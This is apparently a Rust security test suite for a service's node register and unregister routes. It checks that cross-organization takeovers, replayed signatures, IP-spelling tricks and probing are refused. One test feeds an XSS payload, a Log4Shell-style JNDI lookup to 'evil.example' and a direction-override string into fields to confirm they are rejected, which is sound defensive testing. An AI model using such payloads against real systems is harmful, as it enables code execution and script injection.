//! Security round 3, the node routes: each test sends what an attacker would — another
//! organization taking an address, a heartbeat turned into a removal, one host under
//! several spellings, markup in published fields, probing for what exists, a captured
//! registration after a removal — and holds the answer (SECURITY.md names each). They
//! share one worker, each with organizations and addresses of its own. What the node
//! write itself decides (a revocation racing it, NODES_MAX) is in
//! security_node_writes.rs, each on a worker configured for it.

use gatehouse_core::crypto::rsa_keys::PrivateKey;
use gatehouse_e2e::accounts::verified_user;
use gatehouse_e2e::nodes::{
    fields, installer_body, nodes_at, now_ms, register, seed_org, signed, unregister_body,
    upload_new_key,
};
use gatehouse_e2e::{shared_app, TestResponse};
use serde_json::json;

fn assert_refused(res: &TestResponse, status: u16, message: &str) {
    assert_eq!(res.status, status, "{}", res.body);
    assert_eq!(
        res.json(),
        json!({"success": false, "message": message}),
        "{}",
        res.body
    );
}

const INVALID: &str = "Invalid signature";
const INVALID_WITHOUT_ORG: &str =
    "Invalid signature (a node's first registration must also name its organization: id_org)";
const REPLAY: &str =
    "Replay detected: this signed request was already used or is older than the last one";

#[test]
fn an_address_is_each_organizations_own() {
    let app = shared_app();
    let alice = seed_org(app, "org-alice", 2048);
    let mallory = seed_org(app, "org-mallory", 2048);
    let t = now_ms();
    // Mallory takes Alice's public address before Alice's node's first registration,
    // and the LAN address both use.
    for ip in ["203.0.113.50", "10.0.0.5"] {
        assert_eq!(
            register(app, &mallory, ip, t, Some("org-mallory")).status,
            200
        );
    }
    // Alice's node registers anyway, first and again (cold, then warm), in both forms.
    for ip in ["203.0.113.50", "10.0.0.5"] {
        assert_eq!(
            register(app, &alice, ip, t + 1, Some("org-alice")).status,
            200
        );
        assert_eq!(
            register(app, &alice, ip, t + 2, Some("org-alice")).status,
            200
        );
        assert_eq!(nodes_at(app, ip), ["org-alice", "org-mallory"]);
    }
    let secs = t / 1000 + 10;
    let res = app.post_json(
        "/register",
        &installer_body(&alice, "203.0.113.50", secs, "org-alice"),
    );
    assert_eq!(res.status, 200, "{}", res.body);
    // A node that does not name its organization is found by the key that signed it.
    assert_eq!(
        register(app, &alice, "10.0.0.5", t + 20_000, None).status,
        200
    );
    assert_eq!(
        register(app, &mallory, "10.0.0.5", t + 20_000, None).status,
        200
    );
    // Mallory unregistering "her" address takes nothing from Alice.
    let gone = app.post_json(
        "/unregister",
        &unregister_body(&mallory, "203.0.113.50", t + 30_000, "org-mallory"),
    );
    assert_eq!(gone.status, 200, "{}", gone.body);
    assert_eq!(nodes_at(app, "203.0.113.50"), ["org-alice"]);
    // Nor can she take over Alice's node by naming Alice's organization.
    assert_refused(
        &register(app, &mallory, "203.0.113.50", t + 40_000, Some("org-alice")),
        400,
        INVALID,
    );
    assert_eq!(
        register(app, &alice, "203.0.113.50", t + 50_000, None).status,
        200
    );
}

#[test]
fn a_registration_signature_never_unregisters() {
    let app = shared_app();
    let key = seed_org(app, "org-heartbeat", 2048);
    let secs = now_ms() / 1000;
    let first = app.post_json(
        "/register",
        &installer_body(&key, "203.0.113.51", secs, "org-heartbeat"),
    );
    assert_eq!(first.status, 200, "{}", first.body);
    // A later heartbeat, captured before it arrives, sent to /unregister instead: the
    // installer's message is a registration's, never a removal's.
    let heartbeat = installer_body(&key, "203.0.113.51", secs + 5, "org-heartbeat");
    assert_refused(&app.post_json("/unregister", &heartbeat), 400, INVALID);
    assert_eq!(nodes_at(app, "203.0.113.51"), ["org-heartbeat"]);
    // And a v1 registration is not an unregistration either.
    let v1 = signed(
        &key,
        &fields("203.0.113.51", now_ms() + 6_000, Some("org-heartbeat")),
    );
    assert_refused(&app.post_json("/unregister", &v1), 400, INVALID);
    // The heartbeat itself still registers.
    assert_eq!(app.post_json("/register", &heartbeat).status, 200);
}

#[test]
fn a_withheld_unregistration_signed_before_the_last_change_removes_nothing() {
    // A thief captured the node's unregistration before it arrived (so its KV nonce was
    // never remembered) and holds it while the node changes and registers again: the
    // node row's newer signed time refuses it in D1, and the node stays.
    let app = shared_app();
    let key = seed_org(app, "org-withheld", 2048);
    let (ip, t) = ("203.0.113.53", now_ms());
    assert_eq!(register(app, &key, ip, t, Some("org-withheld")).status, 200);
    let withheld = unregister_body(&key, ip, t + 1_000, "org-withheld");
    let mut changed = fields(ip, t + 2_000, Some("org-withheld"));
    changed.version = "1.4.3".into();
    let written = app.post_json("/register", &signed(&key, &changed));
    assert_eq!(written.status, 200, "{}", written.body);
    assert_refused(&app.post_json("/unregister", &withheld), 400, REPLAY);
    assert_eq!(nodes_at(app, ip), ["org-withheld"]);
}

#[test]
fn every_spelling_of_one_host_is_one_node() {
    let app = shared_app();
    let key = seed_org(app, "org-spellings", 2048);
    let t = now_ms();
    for (i, ip) in [
        "203.0.113.60",
        "::ffff:203.0.113.60",
        "::ffff:0:203.0.113.60",
        "::203.0.113.60",
        "64:ff9b::203.0.113.60",
        "64:ff9b::cb00:713c",
    ]
    .iter()
    .enumerate()
    {
        let res = register(app, &key, ip, t + i as i64, Some("org-spellings"));
        assert_eq!(res.status, 200, "{ip}: {}", res.body);
    }
    // Without id_org, the cold path looks the address up folded too.
    let unnamed = register(app, &key, "::ffff:203.0.113.60", t + 10, None);
    assert_eq!(unnamed.status, 200, "{}", unnamed.body);
    assert_eq!(nodes_at(app, "203.0.113.60"), ["org-spellings"]);
    assert_eq!(
        app.d1_query("SELECT ip, last_signed_at_ms FROM nodes WHERE org_id = 'org-spellings'"),
        // None after the first changed anything, so none wrote (docs/nodes.md, "Writes
        // only on change"): had a spelling been another node, it would be a new row.
        vec![json!({"ip": "203.0.113.60", "last_signed_at_ms": t})],
        "one node, whichever way its address is written"
    );
    // The seed's own example: private ranges are fine.
    let private = register(app, &key, "192.168.1.100", t, Some("org-spellings"));
    assert_eq!(private.status, 200, "{}", private.body);
    let unreachable = "Invalid ip: unspecified, loopback, link-local";
    for (ip, says) in [
        ("2002:cb00:713c::1", "Invalid ip: 6to4, Teredo"),
        (
            "2001:0:4136:e378:8000:63bf:3fff:fdd2",
            "Invalid ip: 6to4, Teredo",
        ),
        ("240.0.0.1", unreachable),
        ("::ffff:240.0.0.1", unreachable),
        ("::7f00:1", unreachable),
        ("64:ff9b::127.0.0.1", unreachable),
        ("0.0.0.0", unreachable),
        ("127.0.0.1", unreachable),
        ("::1", unreachable),
        ("::", unreachable),
        ("169.254.10.1", unreachable),
        ("fe80::1", unreachable),
        ("224.0.0.1", unreachable),
        ("ff02::1", unreachable),
        ("255.255.255.255", unreachable),
        ("::ffff:127.0.0.1", unreachable),
    ] {
        let res = register(app, &key, ip, t + 100, Some("org-spellings"));
        assert_eq!(res.status, 400, "{ip}: {}", res.body);
        let message = res.json()["message"].as_str().unwrap().to_owned();
        assert!(message.starts_with(says), "{ip}: {message}");
    }
    let rows = app.d1_query("SELECT count(*) AS n FROM nodes WHERE org_id = 'org-spellings'");
    assert_eq!(rows[0]["n"], 2);
}

#[test]
fn published_fields_hold_no_markup_lookups_or_direction_changes() {
    let app = shared_app();
    let key = seed_org(app, "org-markup", 2048);
    let t = now_ms();
    for (field, value) in [
        ("region", "<img src=x onerror=alert(1)>"),
        ("version", "${jndi:ldap://evil.example/a}"),
        ("region", "eu\u{202e}1-lartnec"),
        ("version", "1.0 beta"),
    ] {
        let mut f = fields("203.0.113.61", t, Some("org-markup"));
        match field {
            "region" => f.region = value.into(),
            _ => f.version = value.into(),
        }
        let res = app.post_json("/register", &signed(&key, &f));
        assert_eq!(res.status, 400, "{value}: {}", res.body);
        let message = res.json()["message"].as_str().unwrap().to_owned();
        assert!(message.starts_with(&format!("Invalid {field}: 1 to 64 letters, digits")));
    }
    assert!(nodes_at(app, "203.0.113.61").is_empty());
    // What the real installer and client send passes and is published as sent.
    let secs = t / 1000;
    let res = app.post_json(
        "/register",
        &installer_body(&key, "203.0.113.61", secs, "org-markup"),
    );
    assert_eq!(res.status, 200, "{}", res.body);
    let stored = app.d1_query("SELECT region, version FROM nodes WHERE ip = '203.0.113.61'");
    assert_eq!(stored[0]["region"], "eu-central-1");
    assert_eq!(stored[0]["version"], "0.0.28");
}

#[test]
fn nothing_is_learnt_before_a_signature_verifies() {
    let app = shared_app();
    let key = seed_org(app, "org-probed", 2048);
    seed_org(app, "org-probed-banned", 2048);
    app.d1_query("UPDATE organizations SET banned = 1 WHERE id = 'org-probed-banned'");
    let stranger = PrivateKey::generate(2048).unwrap();
    let t = now_ms();
    assert_eq!(
        register(app, &key, "203.0.113.62", t, Some("org-probed")).status,
        200
    );

    // /register by a stranger: an unknown organization, a real one, a banned one, an
    // address registered in a real one — the same answer, byte for byte.
    let answers: Vec<(u16, String)> = [
        ("203.0.113.63", "org-nobody"),
        ("203.0.113.63", "org-probed"),
        ("203.0.113.63", "org-probed-banned"),
        ("203.0.113.62", "org-probed"),
        ("203.0.113.62", "org-probed-banned"),
    ]
    .iter()
    .enumerate()
    .map(|(i, (ip, org))| {
        let res = register(app, &stranger, ip, t + 1 + i as i64, Some(org));
        (res.status, res.body)
    })
    .collect();
    for answer in &answers {
        assert_eq!(answer, &answers[0]);
    }
    assert_refused(
        &register(app, &stranger, "203.0.113.63", t + 10, Some("org-probed")),
        400,
        INVALID,
    );
    // Without an organization: a registered and an unregistered address alike.
    let registered = register(app, &stranger, "203.0.113.62", t + 11, None);
    let unknown = register(app, &stranger, "203.0.113.63", t + 12, None);
    assert_refused(&registered, 400, INVALID_WITHOUT_ORG);
    assert_eq!(
        (registered.status, registered.body),
        (unknown.status, unknown.body)
    );

    // /unregister with a bad signature: a registered address and an unknown one alike.
    let registered = app.post_json(
        "/unregister",
        &unregister_body(&stranger, "203.0.113.62", t + 13, "org-probed"),
    );
    let unknown = app.post_json(
        "/unregister",
        &unregister_body(&stranger, "203.0.113.63", t + 14, "org-probed"),
    );
    assert_refused(&registered, 400, INVALID);
    assert_eq!(
        (registered.status, registered.body),
        (unknown.status, unknown.body)
    );
    // Once the signature verifies, the organization's own node may be unknown: 404.
    let own_unknown = app.post_json(
        "/unregister",
        &unregister_body(&key, "203.0.113.63", t + 15, "org-probed"),
    );
    assert_refused(&own_unknown, 404, "Node not found");
}

#[test]
fn a_removed_node_cannot_be_brought_back_by_a_captured_registration() {
    let app = shared_app();
    let (token, org, _) = verified_user(app, "owner@nodes.example");
    let (key, _) = upload_new_key(app, &token, &org);
    // A tombstone from long ago: past its retention, the next removal sweeps it.
    app.d1_execute(
        "INSERT INTO node_tombstones (org_id, ip, last_signed_at_ms, removed_at_ms) \
         VALUES ('org-long-gone', '192.0.2.200', 1, 1)",
    )
    .expect("old tombstone");
    let t = now_ms();
    for (ip, removal) in [("203.0.113.64", "unregister"), ("203.0.113.65", "delete")] {
        // Captured on the way, never delivered: a registration signed at t.
        let captured = signed(&key, &fields(ip, t, Some(&org)));
        assert_eq!(register(app, &key, ip, t + 1_000, Some(&org)).status, 200);
        let removed = match removal {
            "unregister" => {
                app.post_json("/unregister", &unregister_body(&key, ip, t + 2_000, &org))
            }
            _ => app.request_as(
                &token,
                "DELETE",
                &format!("/organization/{org}/node/{ip}"),
                None,
            ),
        };
        assert_eq!(removed.status, 200, "{removal}: {}", removed.body);
        // Inside its window, its nonce unused: D1's tombstone refuses it.
        assert_refused(&app.post_json("/register", &captured), 400, REPLAY);
        assert!(nodes_at(app, ip).is_empty(), "{ip} stays removed");
        // The node itself comes back with a registration signed after the removal (a
        // manager's removal is at the time it was made: an unwritten heartbeat of the
        // node, newer than its row, must not bring it back either).
        let after = (t + 3_000).max(now_ms() + 1_000);
        assert_eq!(register(app, &key, ip, after, Some(&org)).status, 200);
    }
    // Tombstones are kept only while a request signed before them could be fresh.
    let kept = app.d1_query(
        "SELECT ip FROM node_tombstones \
         WHERE ip IN ('192.0.2.200', '203.0.113.64', '203.0.113.65') ORDER BY ip",
    );
    assert_eq!(
        kept,
        vec![json!({"ip": "203.0.113.64"}), json!({"ip": "203.0.113.65"})]
    );
}
